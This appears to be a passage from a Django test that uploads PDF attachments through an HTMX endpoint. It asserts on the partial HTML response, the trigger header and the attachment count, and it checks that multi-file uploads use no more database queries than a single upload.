    with django_assert_max_num_queries(25) as one:
        response = client.post(url, upload_data([(pdf_upload(), documents[0].pk)]), headers=htmx)
    assert response.status_code == 200 and response["HX-Trigger"] == "dossier-changed"
    body = response.content.decode()
    assert body.startswith('<div class="card mb-4" id="documents">') and "<html" not in body
    assert 'data-testid="attach-status"' in body and "thuyet-minh.pdf" in body
    # The same number of queries for four files as for one.
    files = [(pdf_upload(f"{d.code}.pdf"), d.pk) for d in documents[1:]] + [(pdf_upload(), "")]
    with django_assert_max_num_queries(len(one.captured_queries)):
        response = client.post(url, upload_data(files), headers=htmx)
    assert response.status_code == 200
    assert Attachment.objects.filter(proposal=proposal).count() == 1 + len(files)
    assert all(row["files"] for row in response.context["documents"])
